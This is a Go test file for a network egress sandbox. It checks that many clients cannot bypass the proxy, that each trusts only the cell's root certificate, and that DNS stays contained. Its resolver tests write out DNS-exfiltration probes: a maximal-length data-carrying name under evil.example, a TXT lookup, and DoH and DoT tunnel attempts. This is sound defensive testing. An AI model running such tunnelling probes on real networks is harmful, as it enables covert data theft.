// SPDX-License-Identifier: Apache-2.0

package clients

import (
	"net"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/doorward/doorward/internal/wire"
	"github.com/doorward/doorward/test/world"
)

// TestCL01_ClientsThatKnowNoProxy: a program that asks for no proxy, by Node, Python, Java, Go or curl without an environment,
// gets the verdict that every other gets, by routing and not by courtesy. What is no HTTPS (ssh, git://) reaches nobody. Control:
// the same programs reach the site that policy allows.
func TestCL01_ClientsThatKnowNoProxy(t *testing.T) {
	r := need(t)
	socket := `import socket, ssl, sys
s = ssl.create_default_context().wrap_socket(socket.create_connection((sys.argv[1], 443)), server_hostname=sys.argv[1])
s.sendall(b"GET /sum HTTP/1.1\r\nHost: " + sys.argv[1].encode() + b"\r\nConnection: close\r\n\r\n")
print(s.makefile("rb").read().decode())`
	fetch := `const r = await fetch("https://" + process.argv[1] + "/sum"); console.log(await r.text())`
	for _, c := range []struct {
		name  string
		needs func(*testing.T, *rig)
		args  func(host string) []string
	}{
		{"node", has("node"), func(h string) []string { return []string{"node", "--input-type=module", "-e", fetch, h} }},
		{"python", module("ssl"), func(h string) []string { return []string{"/usr/bin/python3", "-c", socket, h} }},
		{"curl", has("curl"), func(h string) []string {
			return []string{"/usr/bin/env", "-i", "/usr/bin/curl", "-sS", "--noproxy", "*", "https://" + h + "/sum"}
		}},
		{"go", has(), func(h string) []string {
			return []string{"/usr/bin/env", "-i", r.path("goclient"), "http", "https://" + h + "/sum"}
		}},
		{"java", has("java", "javac"), func(h string) []string {
			return []string{"java", "-XX:TieredStopAtLevel=1", "-cp", r.dir, "Client", "https://" + h}
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			c.needs(t, r)
			for _, m := range modes {
				r.servers["off"].take()
				if res := r.inCell(t, r.scratch(t), c.args("off."+m.domain)...); res.Code == 0 {
					t.Errorf("%s reaches what is off: %v", c.name, res)
				}
				if saw := r.servers["off"].take(); len(saw) > 0 {
					t.Errorf("the server that is off saw %q", saw)
				}
				if res := r.asks(t, m, func() world.Result { return r.inCell(t, r.scratch(t), c.args("web."+m.domain)...) }); res.Code != 0 {
					t.Errorf("control: what is allowed: %v", res)
				}
			}
		})
	}
	t.Run("no HTTPS", func(t *testing.T) {
		installed(t, "git", "curl")
		ln, err := net.Listen("tcp", r.servers["off"].ip+":9418")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		came := make(chan net.Conn, 8)
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				came <- c
				c.Close()
			}
		}()
		for _, args := range [][]string{{"git", "ls-remote", "git://off." + spliced.domain + "/r.git"},
			{"curl", "-sS", "--max-time", "20", "telnet://off." + spliced.domain + ":9418"}} {
			begin := time.Now()
			if res := r.inCell(t, r.scratch(t), args...); res.Code == 0 && args[0] == "git" || time.Since(begin) > 60*time.Second {
				t.Errorf("%s: %v", args[0], res)
			}
		}
		select {
		case <-came:
			t.Error("it reached the server")
		default:
		}
		res := r.without(t, r.scratch(t), "git", "ls-remote", "git://off."+outside+"/r.git")
		select {
		case <-came:
		case <-time.After(10 * time.Second):
			t.Errorf("control: outside it does not come to the server either: %v", res)
		}
	})
}

// inEveryStore are programs that look for roots in places of their own. Each makes one HTTPS request to a server.
var inEveryStore = []struct {
	name  string
	needs func(*testing.T, *rig)
	args  func(r *rig, url string) []string
}{
	{"curl", has("curl"), func(_ *rig, u string) []string { return []string{"curl", "-sS", u} }},
	{"curl without environment", has("curl"), func(_ *rig, u string) []string { return []string{"/usr/bin/env", "-i", "/usr/bin/curl", "-sS", u} }},
	{"wget", has("wget"), func(_ *rig, u string) []string { return []string{"wget", "-q", "-O", "-", u} }},
	{"node", has("node"), func(_ *rig, u string) []string {
		return []string{"node", "--input-type=module", "-e", "console.log(await (await fetch(process.argv[1])).text())", u}
	}},
	{"python", module("ssl"), func(_ *rig, u string) []string {
		return []string{"/usr/bin/python3", "-c", "import sys, urllib.request as u; print(u.urlopen(sys.argv[1]).read())", u}
	}},
	{"python without environment", module("ssl"), func(_ *rig, u string) []string {
		return []string{"/usr/bin/env", "-i", "/usr/bin/python3", "-c", "import sys, urllib.request as u; print(u.urlopen(sys.argv[1]).read())", u}
	}},
	{"requests", module("requests"), func(_ *rig, u string) []string {
		return []string{"/usr/bin/python3", "-c", "import sys, requests; print(requests.get(sys.argv[1]).text)", u}
	}},
	{"httpx", module("httpx"), func(_ *rig, u string) []string {
		return []string{"/usr/bin/python3", "-c", "import sys, httpx; print(httpx.get(sys.argv[1]).text)", u}
	}},
	{"go", has(), func(r *rig, u string) []string { return []string{r.path("goclient"), "http", u} }},
	{"git", has("git"), func(_ *rig, u string) []string { // of a server that has none
		return []string{"/bin/sh", "-c", `git ls-remote "$1" 2>&1 | tee out; grep -q "/sum/' not found" out`, "sh", u}
	}},
	{"java", has("java", "javac"), func(r *rig, u string) []string {
		return []string{"java", "-XX:TieredStopAtLevel=1", "-cp", r.dir, "Client", strings.TrimSuffix(u, "/sum")}
	}},
	{"openssl", has("openssl"), func(_ *rig, u string) []string {
		host := strings.TrimSuffix(strings.TrimPrefix(u, "https://"), "/sum")
		if !strings.Contains(host, ":") {
			host += ":443"
		}
		return []string{"/bin/sh", "-c", `openssl s_client -verify_return_error -connect "$1" </dev/null`, "sh", host}
	}},
	{"npm", has("npm"), func(_ *rig, u string) []string {
		return []string{"/bin/sh", "-c", `npm view --fetch-retries=0 --registry "$1/" lantern > out 2>&1; ! grep certificate out`, "sh", strings.TrimSuffix(u, "/sum")}
	}},
	{"chromium", has("chromium"), func(_ *rig, u string) []string { // whose exit code says nothing of the page
		return []string{"/bin/sh", "-c", `chromium --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run ` +
			`--user-data-dir="$PWD/profile" --dump-dom "$1" >page 2>said; cat page; grep -q "<body" page && ! grep -q "ERR_CERT\|not private" page`, "sh", u}
	}},
	{"bun", has("bun"), func(_ *rig, u string) []string {
		return []string{"bun", "-e", "console.log(await (await fetch('" + u + "')).text())"}
	}},
	{"deno", has("deno"), func(_ *rig, u string) []string {
		return []string{"deno", "eval", "console.log(await (await fetch('" + u + "')).text())"}
	}},
}

// TestCL02_ProgramsWithRootsOfTheirOwn: each program of the list takes a certificate of the cell's root, with its verification on
// and no flag. Control: a certificate of another root is refused by each.
func TestCL02_ProgramsWithRootsOfTheirOwn(t *testing.T) {
	r := need(t)
	good, bad := "https://web."+read.domain, r.onLo(t, another(t), "15444")
	for _, c := range inEveryStore {
		t.Run(strings.ReplaceAll(c.name, " ", "-"), func(t *testing.T) {
			c.needs(t, r)
			if res := r.inCell(t, r.scratch(t), c.args(r, good+"/sum")...); res.Code != 0 {
				t.Errorf("it does not trust the cell's root: %v", res)
			}
			if res := r.inCell(t, r.scratch(t), c.args(r, bad+"/sum")...); res.Code == 0 {
				t.Errorf("control: it takes any root: %v", res)
			}
		})
	}
	t.Run("doctor", func(t *testing.T) {
		res, err := r.work.Actor().Connector(within(t, time.Minute), "doctor")
		if err != nil || !strings.Contains(res.Stdout, "ok     trust: ") {
			t.Errorf("%v, %v", err, res)
		}
		// Whose variables lead elsewhere is told.
		res, err = r.work.Actor().Do(within(t, time.Minute), world.Cmd{UID: 1000, Args: []string{filepath.Join(r.Prefix, "bin/connector"), "doctor"},
			Env: []string{"SSL_CERT_FILE=/tmp/other.pem", "NODE_EXTRA_CA_CERTS="}})
		if err != nil || res.Code == 0 || !strings.Contains(res.Stdout, "SSL_CERT_FILE") || !strings.Contains(res.Stdout, "NODE_EXTRA_CA_CERTS") {
			t.Errorf("%v, %v", err, res)
		}
	})
}

// another is a root that nobody trusts.
func another(t *testing.T) *authority {
	t.Helper()
	a, err := newAuthority("nobody")
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// onLo serves in the cell, on its own lo, with a leaf of a root; it returns the address.
func (r *rig) onLo(t *testing.T, a *authority, port string, names ...string) string {
	t.Helper()
	cert, err := a.leaf(append(names, "localhost"), net.IPv4(127, 0, 0, 1), net.IPv6loopback)
	if err != nil {
		t.Fatal(err)
	}
	if err := r.putPair("lo-"+port, cert); err != nil {
		t.Fatal(err)
	}
	p, err := r.work.Actor().Start(world.Cmd{UID: 1000, Args: []string{r.path("goclient"), "serve", "127.0.0.1:" + port, r.path("lo-" + port)}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { p.Kill(); _, _ = p.Wait() })
	for deadline := time.Now().Add(time.Minute); ; time.Sleep(100 * time.Millisecond) {
		res, err := r.work.Actor().Run(within(t, time.Minute), "/usr/bin/curl", "-ksS", "-o", "/dev/null", "https://127.0.0.1:"+port+"/")
		if err == nil && res.Code == 0 {
			return "https://localhost:" + port
		}
		if time.Now().After(deadline) {
			t.Fatalf("no server on lo: %v, %v", err, res)
		}
	}
}

// odd are names of sites that are read: of 193 characters, below another, and of letters that are not a-z.
var odd = []string{strings.Repeat("a.", 90) + "names.example", "a.wild.example", "xn--bcher-kva.example"}

// TestHT07_StrictVerifiers: OpenSSL with -x509_strict and Python's strictest check take the leaf that the cell's egress makes for
// each of the odd names; and the root is an authority's as the strict want it. Control: the same checks refuse another root's. Of
// addresses package mint has the same.
func TestHT07_StrictVerifiers(t *testing.T) {
	r := need(t)
	bad := strings.TrimPrefix(r.onLo(t, another(t), "15444", odd...), "https://")
	const strict = `import socket, ssl, sys
c = ssl.create_default_context()
c.verify_flags |= ssl.VERIFY_X509_STRICT
h, p = sys.argv[1].split(":")
print(c.wrap_socket(socket.create_connection((h, int(p))), server_hostname=sys.argv[2]).version())`
	for _, name := range odd {
		good := name + ":443"
		openssl := func(at string) world.Result {
			return r.inCell(t, r.scratch(t), "openssl", "s_client", "-x509_strict", "-purpose", "sslserver", "-verify_return_error",
				"-verify_hostname", name, "-servername", name, "-connect", at)
		}
		t.Run("openssl-"+name[:min(len(name), 20)], func(t *testing.T) {
			installed(t, "openssl")
			if res := openssl(good); res.Code != 0 || !strings.Contains(res.Stdout, "Verify return code: 0 (ok)") {
				t.Error(res)
			}
			if res := openssl(bad); res.Code == 0 {
				t.Errorf("control: %v", res)
			}
		})
		t.Run("python-"+name[:min(len(name), 20)], func(t *testing.T) {
			python(t, "ssl")
			if res := r.inCell(t, r.scratch(t), "/usr/bin/python3", "-c", strict, good, name); res.Code != 0 {
				t.Error(res)
			}
			if res := r.inCell(t, r.scratch(t), "/usr/bin/python3", "-c", strict, bad, name); res.Code == 0 {
				t.Errorf("control: %v", res)
			}
		})
	}
	t.Run("purpose", func(t *testing.T) {
		installed(t, "openssl")
		res := r.inCell(t, r.scratch(t), "openssl", "x509", "-in", wire.CellCA+wire.CARoot, "-noout", "-purpose", "-ext",
			"basicConstraints,keyUsage,subjectKeyIdentifier")
		for _, want := range []string{"SSL server CA : Yes", "Basic Constraints: critical", "CA:TRUE", "Key Usage: critical", "Subject Key Identifier"} {
			if !strings.Contains(res.Stdout, want) {
				t.Errorf("no %q in %v", want, res)
			}
		}
	})
}

// TestResolversGetAnAnswerAtOnce: those of glibc, musl, Go, Node, Java, Python and busybox each get the address of a name from the
// cell's own resolver at once, and it is the same, and one of the longest name that there is; glibc by TCP too; records of other kinds get none, and DoH and DoT to a server of one's
// own come nowhere. Control: the site that is allowed is reached by that address.
func TestResolversGetAnAnswerAtOnce(t *testing.T) {
	r := need(t)
	name := "web." + spliced.domain
	first := r.inCell(t, r.scratch(t), "getent", "ahostsv4", name)
	want, _, _ := strings.Cut(first.Stdout, " ")
	if first.Code != 0 || !strings.HasPrefix(want, "198.1") {
		t.Fatal(first)
	}
	musl := r.musl(t)
	// As long as a name can be, which is how one would carry something out in it.
	long := strings.Repeat(strings.Repeat("4a", 31)+"6.", 3) + strings.Repeat("4", 48) + ".evil.example"
	for _, c := range []struct {
		name  string
		needs func(*testing.T, *rig)
		args  []string // the name comes behind
	}{
		{"glibc", has("getent"), []string{"getent", "ahosts"}},
		{"glibc by TCP", has("getent"), []string{"env", "RES_OPTIONS=use-vc", "getent", "ahosts"}},
		{"musl", func(t *testing.T, _ *rig) {
			if musl == "" {
				t.Skip("client skipped: musl-gcc is not installed")
			}
		}, []string{musl}},
		{"busybox", has("busybox"), []string{"busybox", "nslookup"}},
		{"go", has(), []string{r.path("goclient"), "lookup"}},
		{"node", has("node"), []string{"node", r.path("lookup.mjs")}},
		{"java", has("java", "javac"), []string{"java", "-XX:TieredStopAtLevel=1", "-cp", r.dir, "Lookup"}},
		{"python", module("socket"), []string{"/usr/bin/python3", "-c", "import socket, sys; print(socket.getaddrinfo(sys.argv[1], 443))"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			c.needs(t, r)
			for _, name := range []string{name, long} {
				begin := time.Now()
				res := r.inCell(t, r.scratch(t), append(c.args, name)...)
				if res.Code != 0 || !strings.Contains(res.Stdout, "fd") && !strings.Contains(res.Stdout, "198.1") ||
					name != long && !strings.Contains(res.Stdout, want) && !strings.Contains(res.Stdout, "fd") {
					t.Error(res)
				}
				t.Logf("%v", time.Since(begin))
			}
		})
	}
	if res := r.inCell(t, r.scratch(t), "curl", "-sS", "--resolve", name+":443:"+want, "https://"+name+"/sum"); res.Code != 0 {
		t.Errorf("control: %v", res)
	}
	t.Run("tunnels", func(t *testing.T) {
		installed(t, "busybox", "curl")
		for _, args := range [][]string{
			{"busybox", "nslookup", "-type=txt", "4a6f.evil.example"},
			{"curl", "-sS", "--max-time", "20", "--doh-url", "https://off." + spliced.domain + "/dns-query", "https://web.nowhere.example/"},
			{"openssl", "s_client", "-connect", "off." + spliced.domain + ":853"},
		} {
			res := r.inCell(t, r.scratch(t), args...)
			if res.Code == 0 && !slices.Contains(args, "-type=txt") || strings.Contains(res.Stdout, "text =") {
				t.Errorf("%q: %v", args, res)
			}
		}
		if saw := r.servers["off"].take(); len(saw) > 0 {
			t.Errorf("it came out: %q", saw)
		}
	})
}

// musl compiles a look-up against musl, and returns its path, or "".
func (r *rig) musl(t *testing.T) string {
	t.Helper()
	if _, err := exec.LookPath("musl-gcc"); err != nil {
		return ""
	}
	const text = `#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
int main(int n, char **v) {
	struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *all;
	char s[64];
	if (getaddrinfo(v[1], "443", &hints, &all))
		return 1;
	for (; all; all = all->ai_next) {
		void *a = all->ai_family == AF_INET ? (void *)&((struct sockaddr_in *)all->ai_addr)->sin_addr
			: (void *)&((struct sockaddr_in6 *)all->ai_addr)->sin6_addr;
		puts(inet_ntop(all->ai_family, a, s, sizeof s));
	}
	return 0;
}
`
	if err := r.put("lookup.c", []byte(text)); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("musl-gcc", "-static", "-o", r.path("lookup"), r.path("lookup.c")).CombinedOutput(); err != nil {
		t.Fatalf("musl-gcc: %v: %s", err, out)
	}
	return r.path("lookup")
}
